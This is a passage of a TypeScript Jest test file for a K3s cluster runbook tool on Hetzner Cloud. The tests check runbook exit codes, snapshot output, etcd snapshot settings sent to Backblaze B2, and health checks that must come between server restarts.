        { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out },
        (l) => void logged.push(l),
      ),
    ).toBe(0);
    const create = logged.find((l) => l.startsWith('hcloud server create'))!;
    expect(create).toContain(`--user-data-from-file ${path.join(out, 'cloud-init', 'ubuntu-8gb-nbg1-1.user-data')}`);
  });

  test('a runbook writes nothing: dist/ is left as it was', () => {
    const out = tempDir('day-two-none');
    expect(main(['--runbook', 'restore'], { K3S_TOKEN: TEST_TOKEN, CDK8S_OUTDIR: out }, () => undefined)).toBe(0);
    expect(fs.readdirSync(out)).toEqual([]);
  });

  test('an unknown runbook is a bad command line (exit 2); an unknown node is an operator error (exit 1)', async () => {
    const errors: string[] = [];
    const spy = jest.spyOn(console, 'error').mockImplementation((m: string) => void errors.push(m));
    try {
      expect(await run(['--runbook', 'upgrade'], { K3S_TOKEN: TEST_TOKEN })).toBe(2);
      expect(
        await run(['--runbook', 'rebuild', '--node', 'nope', '--config', configFile()], { K3S_TOKEN: TEST_TOKEN }),
      ).toBe(1);
    } finally {
      spy.mockRestore();
    }
    expect(errors[0]!.split('\n')[0]).toBe(
      'error: --runbook upgrade: unknown runbook; use one of etcd-secret, restore, rebuild, adopt-snapshots, rollout',
    );
    expect(errors[1]).toMatch(/^error: --node nope: no such node/);
  });
});

test.each([
  ['etcd-secret', undefined],
  ['restore', undefined],
  ['rebuild', 'hetzner2'],
] as const)('the %s runbook matches the snapshot', (name, node) => {
  expect(runbookLines(established, { name, node }, testContext(established)).join('\n')).toMatchSnapshot();
});

test('the production config round-trips: cluster.yaml has etcd snapshots on, to B2', () => {
  expect(productionRaw().etcdSnapshots).toMatchObject({ endpoint: expect.stringMatching(/\.backblazeb2\.com$/) });
  expect(parse(fs.readFileSync(path.join(__dirname, '..', 'cluster.yaml'), 'utf8')).etcdSnapshots.secretName).toBe(
    snapshots.secretName,
  );
});

describe('gates that bite', () => {
  test('adopt-snapshots: each restart comes after the previous server’s gate, and after a gate before the first', () => {
    const rb = book('adopt-snapshots', undefined, established);
    const titles = rb.steps.map((s) => s.title);
    const restarts = titles.flatMap((t, i) => (/Give \S+ the snapshot settings and restart K3s$/.test(t) ? [i] : []));
    const gates = titles.flatMap((t, i) =>
      /(Check that every server is healthy before the first restart|runs the snapshot settings, and that etcd is whole)$/.test(
        t,
      )
        ? [i]
        : [],
    );
    expect(restarts).toHaveLength(established.cluster.nodes.length);
    // gate, restart, gate, restart, gate, restart, gate: never two restarts without a gate between.
    const order = [...restarts.map((i) => [i, 'restart']), ...gates.map((i) => [i, 'gate'])]
      .sort((a, b) => (a[0] as number) - (b[0] as number))
      .map((x) => x[1]);
    expect(order).toEqual(['gate', 'restart', 'gate', 'restart', 'gate', 'restart', 'gate']);
    // Each gate waits for every server to be a voting etcd member, not for /db/info.
    for (const i of gates)
      expect(rb.steps[i]!.commands.map((c) => c.argv.join(' '))).toContain(
        'kubectl wait --for=condition=EtcdIsVoter=True node -l node-role.kubernetes.io/etcd=true --timeout=10m',
      );
  });

  test('the rebuild’s last wait is for the new member to be a voter, not only Ready', () => {
    const node = established.cluster.nodes[1]!;
    const rb = book('rebuild', node.name, established);
    const wait = rb.steps.find((s) => s.title.startsWith(`Wait until ${node.name}`))!;
    expect(wait.commands.map((c) => c.argv.join(' '))).toContain(
      `kubectl wait --for=condition=EtcdIsVoter=True node/${node.name} --timeout=20m`,
    );
  });
});
